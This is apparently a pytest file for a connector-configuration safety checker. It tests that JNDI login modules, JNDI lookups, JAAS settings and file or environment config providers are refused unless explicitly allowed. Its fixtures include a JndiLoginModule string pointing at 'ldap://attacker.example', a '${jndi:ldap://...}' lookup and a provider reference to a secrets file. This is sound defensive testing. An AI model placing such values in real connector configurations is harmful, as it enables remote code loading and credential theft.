"""Dangerous connector configuration is refused unless explicitly allowed."""

from __future__ import annotations

import pytest

from cdc.errors import DangerousConfig
from cdc.safety import CONFIG_PROVIDERS, JAAS, JNDI, check, scan
from cutover_common.secrets import Secret

JNDI_JAAS = (
    "com.sun.security.auth.module.JndiLoginModule required "
    'user.provider.url="ldap://attacker.example/x" useFirstPass=true;'
)


def categories(config: dict) -> set[str]:
    return {f.category for f in scan(config)}


def test_jndi_login_module_in_a_client_override_is_refused() -> None:
    config = {"producer.override.sasl.jaas.config": JNDI_JAAS}
    with pytest.raises(DangerousConfig) as info:
        check("c", config)
    assert info.value.findings[0][:2] == (JNDI, "producer.override.sasl.jaas.config")
    assert info.value.exit_code == 2


def test_jndi_lookup_anywhere_is_refused() -> None:
    assert categories({"database.dbname": "${jndi:ldap://x/y}"}) == {JNDI}


def test_plain_jaas_config_needs_the_jaas_permission() -> None:
    config = {
        "schema.history.internal.producer.sasl.jaas.config": 'org.apache.kafka.common.security.plain.PlainLoginModule required username="u" password="p";'
    }
    assert categories(config) == {JAAS}
    with pytest.raises(DangerousConfig):
        check("c", config)
    check("c", config, allow={JAAS})


def test_jndi_is_not_allowed_by_the_jaas_permission() -> None:
    with pytest.raises(DangerousConfig):
        check("c", {"consumer.override.sasl.jaas.config": JNDI_JAAS}, allow={JAAS})
    check("c", {"consumer.override.sasl.jaas.config": JNDI_JAAS}, allow={JNDI})


@pytest.mark.parametrize(
    "config",
    [
        {"database.password": "${file:/etc/kafka/secrets.properties:pg}"},
        {"database.user": "${env:PGUSER}"},
        {"database.password": "${directory:/run/secrets:pg}"},
        {"config.providers": "file", "config.providers.file.class": "x.FileConfigProvider"},
    ],
)
def test_config_providers_are_refused_unless_allowed(config: dict) -> None:
    assert categories(config) == {CONFIG_PROVIDERS}
    with pytest.raises(DangerousConfig):
        check("c", config)
    check("c", config, allow={CONFIG_PROVIDERS})


def test_outbox_router_placeholder_is_not_a_config_provider() -> None:
    assert (
        scan({"transforms.outbox.route.topic.replacement": "outbox.event.${routedByValue}"}) == []
    )


def test_secret_values_are_scanned_but_never_reported() -> None:
    config = {"database.password": Secret("${env:LEAKY_PASSWORD_VAR}")}
    with pytest.raises(DangerousConfig) as info:
        check("c", config)
    assert "LEAKY_PASSWORD_VAR" not in str(info.value)


def test_unknown_allow_category_is_a_programming_error() -> None:
    with pytest.raises(ValueError):
        check("c", {}, allow={"everything"})
